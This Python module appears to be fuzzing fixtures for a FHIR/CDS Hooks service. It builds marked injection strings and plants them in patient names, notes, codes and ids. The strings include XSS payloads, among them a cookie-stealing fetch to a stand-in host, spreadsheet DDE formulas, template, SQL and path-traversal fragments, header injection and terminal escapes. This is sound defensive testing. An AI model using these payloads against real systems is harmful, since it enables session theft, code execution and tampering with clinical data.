"""Strings that would act where they are shown, made by rule, and calls into which they are put."""

from __future__ import annotations

import copy
from collections.abc import Iterator
from itertools import product
from typing import Any

Json = dict[str, Any]

MARK = "Zqx"
"""Stands in every string, so that what reaches a card can be found there."""
HOST = "evil.example"

_SCRIPTS = (
    "alert(1)",
    "fetch(`//evil.example/`+document.cookie)",
    "document.body.innerHTML=1",
    "{{7*7}}",
    "prompt`1`",
    "eval(name)",
)
_TAGS = (
    "<img src=x onerror={}>",
    "<IMG SRC=x ONERROR={}>",
    "<img/src='x'/onerror='{}'>",
    "<script>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<details open ontoggle={}>",
    "<a href='javascript:{}'>x</a>",
    "<math><mi xlink:href='javascript:{}'>x",
    "<style>*{{background:url(//evil.example/?{})}}</style>",
    "<!--><img src=x onerror={}>-->",
    "<?xml {}?>",
    "<![CDATA[<img src=x onerror={}>]]>",
    "</p></li></ul><h1>{}</h1>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    "&lt;img src=x onerror={}&gt;",
    "&#60;img src=x onerror={}&#62;",
    "＜img src=x onerror={}＞",
)
_ADDRESSES = (
    "https://evil.example/{}",
    "http://evil.example/{}",
    "HTTPS://EVIL.EXAMPLE/{}",
    "//evil.example/{}",
    "www.evil.com/{}",
    "evil.com/{}",
    "evil.example.net?{}",
    "{}@evil.example",
    "{}@evil.com",
    "mailto:{}@evil.com",
    "xmpp:{}@evil.com",
    "ftp://evil.com/{}",
    "javascript:alert('{}')",
    "JaVaScRiPt:alert('{}')",
    "java\tscript:alert('{}')",
    "vbscript:msgbox('{}')",
    "data:text/html,<script>alert('{}')</script>",
    "data:text/html;base64,PHNjcmlwdD4={}",
    "file:///etc/passwd#{}",
    "tel:{}",
    "https:/\\evil.com/{}",
    "hthttps://tps://evil.com/{}",
    "wwww.ww.evil.com/{}",
    "http://127.0.0.1/{}",
    "http://[::1]/{}",
    "xn--80ak6aa92e.com/{}",
    "пример.рф/{}",
)
_AROUND = (
    "{}",
    "[x]({})",
    "![x]({})",
    "<{}>",
    "[{}]: {}",
    "[x][{}]",
    '[x]({} "t")',
    "see {} now",
    "({})",
    "**{}**",
    "a,{};b",
)
_MARKDOWN = (
    "# {}",
    "###### {}",
    "> {}",
    "- {}",
    "+ {}",
    "* {}",
    "1. {}",
    "7) {}",
    "- [ ] {}",
    "--- {}",
    "***",
    "___ {}",
    "=== {}",
    "| {} | b |\n|---|---|\n| c | d |",
    "```\n{}\n```",
    "~~~ {}",
    "    {}",
    "\t{}",
    "`{}`",
    "**{}**",
    "__{}__",
    "*{}*",
    "~~{}~~",
    "[^1]: {}",
    "![{}][x]",
    "[{}]",
    "\\{}",
    "\\\\{}\\",
    "{}  \n{}",
    "{}\n\n## {}",
    "{}\r\n\r\n- {}",
    "{}\u2028# {}",
    "{}\u0085# {}",
    "{}\x0b# {}",
    "{}\n<div>{}",
)
_SIGNS = (
    *range(0x20),
    0x7F,
    *range(0x80, 0xA0),
    0xAD,
    0x34F,
    0x61C,
    0x115F,
    0x180E,
    *range(0x200B, 0x2010),
    *range(0x2028, 0x202F),
    *range(0x2060, 0x2070),
    0x2800,
    0x3164,
    0xE000,
    0xFE0F,
    0xFEFF,
    0xFFA0,
    *range(0xFFF9, 0xFFFC),
    0xFFFE,
    0xE0041,
    0xE0100,
    0x10FFFF,
)
_FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\0", "＝", "＋", "－", "＠", " =", "\n=", "'=", '"=', "=-", "+@")
_SUMS = ("1+1", "HYPERLINK(A1)", "cmd|'/C calc'!A0", "SUM(1;2)", "IMPORTXML(A1)", "DDE(1)")
_TEMPLATES = (
    "{{{{{}}}}}",
    "{{%{}%}}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    "<% {} %>",
    "{{{{constructor.constructor('{}')()}}}}",
    "*{{{}}}",
    "@{{{}}}",
    "[[{}]]",
    "%({})s",
    "%n%s%x{}",
    "{{0.__class__}}{}",
    "';--{}",
    "' OR 1=1 --{}",
    "$({})",
    "`{}`",
    "../../{}",
    "{}\0.json",
)
_TERMINAL = ("\x1b[31m{}", "\x1b]0;{}\x07", "\x1b[2J{}", "\x9b31m{}", "\x1b[8m{}\x1b[0m", "\x08\x08\x08{}", "\r{}")
_LINES = (
    "\r\n{}", "\n{}", '\n{{"level":"error","event":"{}"}}', "\r\nSet-Cookie: {}", "\u2028{}", "\u0085{}", "\x0b{}",
)  # fmt: skip


def corpus() -> list[str]:
    """About a thousand different strings, the same on every run."""
    return list(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    for tag, script in product(_TAGS, _SCRIPTS):
        yield tag.format(script + MARK)
        yield MARK + tag.format(script)
    for address, around in product(_ADDRESSES, _AROUND):
        yield around.replace("{}", address.format(MARK))
    for text in (*_MARKDOWN, *_TERMINAL, *_LINES):
        yield text.replace("{}", MARK)
        yield f"{MARK} {text.replace('{}', MARK)}"
    for text in _TEMPLATES:
        yield text.format(MARK)
    for sign in map(chr, _SIGNS):
        yield f"{MARK}{sign}{MARK}"
        yield f"{sign}{MARK}"
    for first, rest in product(_FORMULAS, _SUMS):
        yield f"{first}{rest}{MARK}"
    for size in (200, 2_000, 20_000):
        yield MARK * (size // len(MARK))
        yield f"{MARK}{'<' * size}"
        yield f"{MARK}{'[' * min(size, 2_000)}"
        yield f"{MARK}{'a' * size}"
        yield f"{MARK}{'e' + chr(0x301) * size}"
        yield f"{MARK}{'&' * size}"
        yield f"{MARK}{'http://' * (size // 7)}"


MODES = ("after", "before", "instead", "identities")
_WORDS = frozenset(
    ("text", "display", "conclusion", "description", "valueString", "patientInstruction", "family", "given", "value")
)
_CODED = frozenset(("unit", "status", "comparator", "gender", "birthDate"))


def poisoned(call: Json, text: str, mode: str) -> Json:
    """The call with the string in it: after or before all its words, instead of units and states, or in its ids."""
    made = copy.deepcopy(call)
    for part in [made.get("prefetch") or {}, *(one for one in made["context"].values() if isinstance(one, dict))]:
        _poison(part, text, mode)
    if mode == "identities":
        stranger = {"resourceType": "Observation", "id": text, "subject": {"reference": f"Patient/{text}"}}
        made["prefetch"] = {**(made.get("prefetch") or {}), text: stranger}
        made["context"]["userId"] = text[:250]
        made["context"]["encounterId"] = text[:250]
    return made


def _poison(value: Any, text: str, mode: str, *, owner: bool = False) -> None:
    if isinstance(value, list):
        for one in value:
            _poison(one, text, mode, owner=owner)
    if not isinstance(value, dict):
        return
    _give_words(value, text, mode)
    for name, inner in value.items():
        if isinstance(inner, dict | list):
            _poison(inner, text, mode, owner=name in ("subject", "patient"))
        elif isinstance(inner, str):
            value[name] = _changed(value, name, inner, text, mode, owner=owner)


def _give_words(value: Json, text: str, mode: str) -> None:
    """What has no words gets some: names, notes, a narrative."""
    kind = value.get("resourceType")
    if kind == "Patient" and mode in ("after", "before"):
        value["name"] = [{"family": text, "given": [text], "text": text}]
    if kind and kind != "Bundle" and mode in ("after", "before"):
        value.setdefault("text", {"status": "generated", "div": f"<div>{text}</div>"})
    if kind in ("MedicationRequest", "Observation", "Condition") and mode in ("after", "before"):
        value.setdefault("note", [{"text": text}])
    if kind == "MedicationRequest" and mode == "identities":
        value["encounter"] = {"reference": f"Encounter/{text}"}


def _changed(holder: Json, name: str, inner: str, text: str, mode: str, *, owner: bool) -> str:
    if mode == "after" and name in _WORDS:
        return f"{inner} {text}"
    if mode == "before" and name in _WORDS:
        return f"{text} {inner}"
    if mode == "instead" and (name in _CODED or (name == "code" and "unit" in holder)):
        return text
    patient = owner or holder.get("resourceType") == "Patient"
    if mode == "identities" and not patient and name in ("id", "reference"):
        return f"{inner}{text}"
    return inner
